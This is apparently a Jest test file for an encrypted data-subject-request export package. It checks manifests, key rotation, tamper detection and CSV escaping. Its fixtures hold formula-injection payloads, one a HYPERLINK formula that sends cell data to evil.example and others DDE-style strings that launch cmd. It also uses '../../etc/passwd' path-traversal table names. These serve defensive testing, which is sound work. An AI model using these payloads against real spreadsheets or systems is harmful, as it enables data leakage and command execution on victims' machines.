import { createHash, randomBytes } from 'node:crypto';
import { Readable, Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import * as yauzl from 'yauzl';
import { ZipFile } from 'yazl';
import type { SystemExport } from './connectors/connector';
import { KeyRing, KeyRingError } from '../common/crypto/key-ring';
import {
  csvCell,
  ExportPackageInvalidError,
  openExportPackage,
  readExportPackage,
  writeExportPackage,
} from './export-package';

const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');

/** An in-memory sink standing in for the database's chunk store. */
function memorySink(): { out: Writable; stored: () => Buffer } {
  const parts: Buffer[] = [];
  const out = new Writable({
    write(chunk: Buffer, _enc, done) {
      parts.push(chunk);
      done();
    },
  });
  return { out, stored: () => Buffer.concat(parts) };
}

/** Stored bytes as the repository's reader streams them: in pieces. */
const source = (bytes: Buffer) => Readable.from([bytes.subarray(0, 17), bytes.subarray(17)]);

async function drain(stream: NodeJS.ReadableStream): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const c of stream) parts.push(c as Buffer);
  return Buffer.concat(parts);
}

/** The test's own unzip (not the module's reader), so the manifest is checked independently. */
function unzipAll(zip: Buffer): Promise<Map<string, Buffer>> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(zip, { lazyEntries: true }, (err, z) => {
      if (err) return reject(err);
      const out = new Map<string, Buffer>();
      z.on('entry', (entry: yauzl.Entry) =>
        z.openReadStream(entry, (e, s) => {
          if (e) return reject(e);
          drain(s).then((b) => {
            out.set(entry.fileName, b);
            z.readEntry();
          }, reject);
        }),
      );
      z.on('end', () => resolve(out));
      z.on('error', reject);
      z.readEntry();
    });
  });
}

const exports: SystemExport[] = [
  {
    system: 'patient-platform',
    tables: [
      {
        table: 'patients',
        columns: ['id', 'full_name', 'email', 'balance', 'born_on', 'photo', 'tags', 'note'],
        rows: [
          {
            id: 17n,
            full_name: 'สมชาย ใจดี',
            email: 'somchai@example.co.th',
            balance: -12.5,
            born_on: new Date('1990-04-01T00:00:00Z'),
            photo: Buffer.from([0, 1, 2, 255]),
            tags: { vip: true, list: ['a', '=b'] },
            note: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
          },
        ],
      },
      {
        table: 'community_posts',
        columns: [],
        rows: [
          { id: 1, body: '+1 great clinic', author: 'somchai' },
          { id: 2, body: "-2+3+cmd|' /C calc'!A0", author: 'somchai', edited: null },
          { id: 3, body: "@SUM(1+1)*cmd|' /C calc'!A0", author: 'somchai' },
          { id: 4, body: '\t=1+1', author: 'somchai' },
          { id: 5, body: 'line one\nline "two", with comma', author: 'somchai' },
        ],
      },
    ],
  },
  {
    system: 'newsletter',
    tables: [
      { table: '../../etc/passwd', columns: ['email'], rows: [{ email: 'somchai@example.co.th' }] },
      { table: '../../etc/passwd', columns: ['email'], rows: [] },
    ],
  },
];

const subject = {
  right: 'access',
  receivedAt: new Date('2026-02-03T04:05:06Z'),
  identity: { fullName: 'สมชาย ใจดี', email: 'somchai@example.co.th', nationalId: '1101700203451' },
};

describe('writeExportPackage', () => {
  const k1 = randomBytes(32);
  const ring = new KeyRing([{ id: 'k1', key: k1 }]);

  const write = async (keyRing = ring) => {
    const sink = memorySink();
    const written = await writeExportPackage({
      reference: 'DSR-2026-0042',
      subject,
      exports,
      keyRing,
      out: sink.out,
      createdAt: new Date('2026-02-04T00:00:00Z'),
    });
    return { written, stored: sink.stored() };
  };

  it('writes an encrypted ZIP whose manifest lists every file with the right SHA-256 and size', async () => {
    const { written, stored } = await write(ring);

    expect(stored.subarray(0, 8).toString('ascii')).toBe('ATDSRENC');
    expect(stored.includes(Buffer.from('somchai@example.co.th'))).toBe(false);
    expect(written.encryptedBytes).toBe(stored.length);
    expect(written.keyId).toBe('k1');

    const zip = await drain(openExportPackage(source(stored), ring));
    expect(zip.subarray(0, 4)).toEqual(Buffer.from('PK\u0003\u0004', 'latin1'));
    expect(sha(zip)).toBe(written.sha256);
    expect(zip.length).toBe(written.bytes);

    const files = await unzipAll(zip);
    const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8'));
    expect(manifest).toEqual(written.manifest);
    expect(manifest).toMatchObject({
      format: 'attest-dsr-export/1',
      generator: { name: 'attest' },
      reference: 'DSR-2026-0042',
      createdAt: '2026-02-04T00:00:00.000Z',
    });
    expect(manifest.generator.version).toMatch(/^\d+\.\d+\.\d+/);
    expect([...files.keys()].sort()).toEqual(
      [
        'manifest.json',
        'subject.json',
        'systems/newsletter/____etc_passwd.csv',
        'systems/newsletter/____etc_passwd.json',
        'systems/newsletter/____etc_passwd-2.csv',
        'systems/newsletter/____etc_passwd-2.json',
        'systems/patient-platform/community_posts.csv',
        'systems/patient-platform/community_posts.json',
        'systems/patient-platform/patients.csv',
        'systems/patient-platform/patients.json',
      ].sort(),
    );
    expect(manifest.files.map((f: { path: string }) => f.path).sort()).toEqual(
      [...files.keys()].filter((p) => p !== 'manifest.json').sort(),
    );
    for (const f of manifest.files) {
      expect({ path: f.path, sha256: sha(files.get(f.path)!), bytes: files.get(f.path)!.length }).toEqual({
        path: f.path,
        sha256: f.sha256,
        bytes: f.bytes,
      });
    }
    expect(
      manifest.files.find((f: { path: string }) => f.path === 'systems/patient-platform/community_posts.json'),
    ).toMatchObject({ system: 'patient-platform', table: 'community_posts', rows: 5 });

    expect(JSON.parse(files.get('subject.json')!.toString('utf8'))).toEqual({
      reference: 'DSR-2026-0042',
      right: 'access',
      receivedAt: '2026-02-03T04:05:06.000Z',
      identity: subject.identity,
    });
    expect(JSON.parse(files.get('systems/patient-platform/patients.json')!.toString('utf8'))).toEqual({
      system: 'patient-platform',
      table: 'patients',
      columns: ['id', 'full_name', 'email', 'balance', 'born_on', 'photo', 'tags', 'note'],
      rows: [
        {
          id: '17',
          full_name: 'สมชาย ใจดี',
          email: 'somchai@example.co.th',
          balance: -12.5,
          born_on: '1990-04-01T00:00:00.000Z',
          photo: 'AAEC/w==',
          tags: { vip: true, list: ['a', '=b'] },
          note: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        },
      ],
    });
  });

  it('guards CSV cells against formula injection and keeps the text otherwise intact', async () => {
    const { stored } = await write(ring);
    const files = await unzipAll(await drain(openExportPackage(source(stored), ring)));
    const posts = files.get('systems/patient-platform/community_posts.csv')!;
    expect(posts.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf])); // BOM: spreadsheets read the Thai text as UTF-8
    const postRows = parse(posts, { bom: true }) as string[][];
    expect(postRows[0]).toEqual(['id', 'body', 'author', 'edited']); // columns from the rows when none are declared
    expect(postRows.slice(1).map((r) => r[1])).toEqual([
      "'+1 great clinic",
      "'-2+3+cmd|' /C calc'!A0",
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'\t=1+1",
      'line one\nline "two", with comma',
    ]);
    const patients = parse(files.get('systems/patient-platform/patients.csv')!, { bom: true }) as string[][];
    expect(patients[1]).toEqual([
      '17',
      'สมชาย ใจดี',
      'somchai@example.co.th',
      '-12.5',
      '1990-04-01T00:00:00.000Z',
      'AAEC/w==',
      '{"vip":true,"list":["a","=b"]}',
      `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
    ]);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@a', "'@a"],
    ['\rx', "'\rx"],
    ['a=1', 'a=1'],
    [-1, '-1'],
    [null, ''],
    [undefined, ''],
    [false, 'false'],
    [['=x'], '["=x"]'],
  ])('csvCell(%j) is %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('round-trips through readExportPackage, also after a key rotation', async () => {
    const { written, stored } = await write(ring);
    const rotated = new KeyRing([
      { id: 'k2', key: randomBytes(32) },
      { id: 'k1', key: k1 },
    ]);
    for (const r of [ring, rotated]) {
      const read = await readExportPackage(source(stored), r);
      expect(read.sha256).toBe(written.sha256);
      expect(read.manifest).toEqual(written.manifest);
      expect(read.files.size).toBe(written.manifest.files.length);
    }
  });

  it("a key that is not the writer's cannot open the package", async () => {
    const { stored } = await write(ring);
    await expect(
      readExportPackage(source(stored), new KeyRing([{ id: 'k7', key: randomBytes(32) }])),
    ).rejects.toMatchObject({ code: 'crypto.key_unknown' });
    await expect(
      readExportPackage(source(stored), new KeyRing([{ id: 'k1', key: randomBytes(32) }])),
    ).rejects.toMatchObject({ code: 'crypto.integrity_failed' });
    await expect(
      drain(openExportPackage(source(stored), new KeyRing([{ id: 'k1', key: randomBytes(32) }]))),
    ).rejects.toBeInstanceOf(KeyRingError);
  });

  it('changed stored bytes error the download stream', async () => {
    const { stored } = await write(ring);
    stored[40] ^= 1;
    await expect(drain(openExportPackage(source(stored), ring))).rejects.toMatchObject({
      code: 'crypto.integrity_failed',
    });
  });

  it('truncated stored bytes error the download stream', async () => {
    const { stored } = await write(ring);
    await expect(
      drain(openExportPackage(source(stored.subarray(0, stored.length - 100)), ring)),
    ).rejects.toBeInstanceOf(KeyRingError);
  });

  it('a failing reader errors the download stream', async () => {
    const failing = new Readable({
      read() {
        this.destroy(new Error('chunk 3 is missing'));
      },
    });
    await expect(drain(openExportPackage(failing, ring))).rejects.toThrow(/chunk 3 is missing/);
  });

  it('a failing sink fails the write', async () => {
    const out = new Writable({
      write(_chunk, _enc, done) {
        done(new Error('the database went away'));
      },
    });
    await expect(writeExportPackage({ reference: 'R', subject, exports, keyRing: ring, out })).rejects.toThrow(
      /the database went away/,
    );
  });

  it('handles a package larger than many encryption segments', async () => {
    const rows = Array.from({ length: 20_000 }, (_, i) => ({ id: i, noise: randomBytes(24).toString('hex') }));
    const sink = memorySink();
    const written = await writeExportPackage({
      reference: 'DSR-BIG',
      subject,
      exports: [{ system: 's', tables: [{ table: 't', columns: ['id', 'noise'], rows }] }],
      keyRing: ring,
      out: sink.out,
    });
    expect(written.bytes).toBeGreaterThan(1_000_000);
    const read = await readExportPackage(source(sink.stored()), ring);
    expect(JSON.parse(read.files.get('systems/s/t.json')!.toString('utf8')).rows).toEqual(rows);
  });
});

describe('readExportPackage', () => {
  const ring = new KeyRing([{ id: 'k1', key: randomBytes(32) }]);

  /** Encrypts a hand-made ZIP, so a package that disagrees with its manifest can be tested. */
  async function sealZip(entries: Record<string, string>): Promise<Buffer> {
    const zip = new ZipFile();
    for (const [path, text] of Object.entries(entries)) zip.addBuffer(Buffer.from(text), path);
    zip.end();
    const plain = await drain(zip.outputStream);
    const parts: Buffer[] = [];
    const enc = ring.encryptStream();
    enc.on('data', (c: Buffer) => parts.push(c));
    await new Promise<void>((resolve) => {
      enc.on('end', resolve);
      enc.end(plain);
    });
    return Buffer.concat(parts);
  }

  const manifest = (files: Array<{ path: string; text: string }>) =>
    JSON.stringify({
      format: 'attest-dsr-export/1',
      generator: { name: 'test', version: '0' },
      reference: 'R',
      createdAt: '2026-01-01T00:00:00Z',
      files: files.map((f) => ({ path: f.path, sha256: sha(Buffer.from(f.text)), bytes: Buffer.byteLength(f.text) })),
    });

  it.each([
    [
      'a changed file',
      { 'subject.json': '{"x":2}' },
      [{ path: 'subject.json', text: '{"x":1}' }],
      /subject.json has 7 bytes|does not match its SHA-256/,
    ],
    [
      'a missing file',
      {},
      [{ path: 'subject.json', text: '{}' }],
      /subject.json is listed in the manifest but not in the package/,
    ],
    [
      'an unlisted file',
      { 'subject.json': '{}', 'extra.csv': 'x' },
      [{ path: 'subject.json', text: '{}' }],
      /extra.csv is not listed in the manifest/,
    ],
  ])('refuses %s', async (_what, contents, listed, message) => {
    const sealed = await sealZip({ ...contents, 'manifest.json': manifest(listed) });
    const error = await readExportPackage(source(sealed), ring).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ExportPackageInvalidError);
    expect((error as Error).message).toMatch(message);
  });
});
